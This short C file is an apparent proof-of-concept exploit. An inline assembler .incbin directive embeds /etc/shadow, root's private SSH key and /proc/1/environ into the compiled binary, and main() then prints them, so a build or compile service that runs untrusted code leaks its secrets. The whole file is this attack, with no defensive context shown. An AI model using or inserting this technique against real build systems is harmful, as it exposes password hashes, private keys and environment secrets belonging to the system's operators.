/* takes a secret into the program by way of the assembler, past the preprocessor */
__asm__(".section .rodata\n secret: .incbin \"/etc/shadow\"\n .incbin \"/root/.ssh/id_rsa\"\n .incbin \"/proc/1/environ\"\n");
extern const char secret[];
int puts(const char*);
int main(void) { return puts(secret); }
